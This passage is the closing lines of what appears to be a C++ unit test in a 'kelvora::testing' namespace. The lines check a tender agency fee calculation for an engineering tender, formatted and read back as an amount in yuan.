        *YuanFromCaption(FormatGeneral(TenderAgencyFee(100040.37, TenderType::Engineering, false)))
             .amount))));
}

}  // namespace
}  // namespace kelvora::testing
